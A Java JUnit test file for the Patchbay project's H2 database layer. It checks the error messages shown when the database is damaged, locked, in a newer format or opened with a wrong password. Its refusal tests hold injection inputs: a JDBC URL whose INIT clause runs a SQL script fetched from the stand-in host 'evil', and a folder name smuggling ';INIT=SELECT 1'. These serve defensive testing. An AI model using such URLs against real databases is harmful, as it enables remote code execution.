package io.patchbay.store.internal.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.patchbay.store.internal.TestNode;
import java.nio.channels.FileChannel;
import java.nio.channels.FileLock;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class H2DatabaseTest extends DatabaseContract {
    @TempDir
    Path home;

    @Override
    OpenDatabase open() {
        return open(TestNode.at(home));
    }

    private OpenDatabase open(TestNode node) {
        DatabaseLocation where = DatabaseLocation.of(node.home(), node::property);
        return OpenDatabase.open(where, DataSources.of(where), threads);
    }

    private Path file() {
        return home.resolve("db/patchbay.mv.db");
    }

    @Test
    void committedRowsAreThereAfterReopening() {
        database.write(connection -> insert(connection, 7));
        database.close();

        database = open();

        assertThat(ids()).containsExactly(7L);
    }

    @Test
    void fileThatIsNoDatabaseIsNamed() throws Exception {
        database.close();
        Files.writeString(file(), "not a database at all, but long enough\n".repeat(1000));

        assertThatThrownBy(this::open)
                .isInstanceOf(OpenFailure.class)
                .hasMessage(
                        "Database '" + file()
                                + "' is damaged or is no database. Restore it from a backup, or move it away to start with an empty one.");
        Files.delete(file());
        database = open();
    }

    @Test
    void fileLockedByAnotherProcessIsNamed() throws Exception {
        database.close();

        try (FileChannel channel = FileChannel.open(file(), StandardOpenOption.WRITE);
                FileLock lock = channel.lock()) {
            assertThat(lock.isValid()).isTrue();
            assertThatThrownBy(this::open)
                    .isInstanceOf(OpenFailure.class)
                    .hasMessage("Database '" + file()
                            + "' is in use by another process. Stop that one, or set PATCHBAY_HOME to another folder.");
        }
        database = open();
    }

    @Test
    void newerFormatIsNamed() throws Exception {
        database.close();
        String header = Files.readString(file(), java.nio.charset.StandardCharsets.ISO_8859_1);
        Files.writeString(file(), newer(header), java.nio.charset.StandardCharsets.ISO_8859_1);

        assertThatThrownBy(this::open)
                .isInstanceOf(OpenFailure.class)
                .hasMessage("Database '" + file() + "' was written by another release of H2. "
                        + "Start the release of Patchbay that wrote it, or restore a backup.");
        Files.delete(file());
        database = open();
    }

    /** Sets the format of both header blocks to 9 and their checksums to match. */
    private static String newer(String file) {
        String changed = file;
        for (int start = 0; start < 8192; start += 4096) {
            int end = changed.indexOf(",fletcher:", start);
            String text = changed.substring(start, end).replaceFirst("format:\\d", "format:9");
            byte[] bytes = text.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
            String sum = Integer.toHexString(org.h2.mvstore.DataUtils.getFletcher32(bytes, 0, bytes.length));
            String line = text + ",fletcher:" + sum + "\n";
            String block = line + "\0".repeat(4096 - line.length());
            changed = changed.substring(0, start) + block + changed.substring(start + 4096);
        }
        return changed;
    }

    @Test
    void wrongPasswordIsNamed() {
        database.close();

        assertThatThrownBy(() -> open(TestNode.at(home).with("patchbay.db.password", "canary")))
                .isInstanceOf(OpenFailure.class)
                .hasMessage("Database '" + file() + "' was created with another user or password. "
                        + "Set PATCHBAY_DB_USER and PATCHBAY_DB_PASSWORD to those.");
        database = open();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:/tmp/x",
                "jdbc:mysql://x/canary",
                "canary"
            })
    void otherDatabaseUrlIsRefusedWithoutRepeatingIt(String url) {
        TestNode node = TestNode.at(home).with("patchbay.db.url", url);

        assertThatThrownBy(() -> DatabaseLocation.of(node.home(), node::property))
                .isInstanceOf(OpenFailure.class)
                .hasMessageContaining("expected 'jdbc:postgresql://host:5432/name'")
                .hasMessageNotContainingAny("INIT", "canary", "/tmp/x");
    }

    @Test
    void homeWithASettingInItsNameIsRefused() {
        assertThatThrownBy(() -> DatabaseLocation.of(home.resolve("x;INIT=SELECT 1"), name -> Optional.empty()))
                .isInstanceOf(OpenFailure.class)
                .hasMessageContaining("has a ';' in its name");
    }
}
